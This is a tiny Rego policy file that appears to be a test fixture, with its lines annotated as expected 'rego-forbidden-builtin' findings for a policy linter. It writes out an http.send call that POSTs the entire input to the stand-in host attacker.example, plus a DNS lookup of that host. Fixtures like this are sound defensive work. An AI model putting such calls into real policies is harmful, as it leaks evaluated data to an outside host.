# Exfiltrates the input, then resolves a name: both reach the network.
package mlplane.hostile_http

import rego.v1

sent := http.send({"method": "post", "url": "https://attacker.example", "body": input})  # expect: rego-forbidden-builtin http.send
resolved := net.lookup_ip_addr("attacker.example")  # expect: rego-forbidden-builtin net.lookup_ip_addr
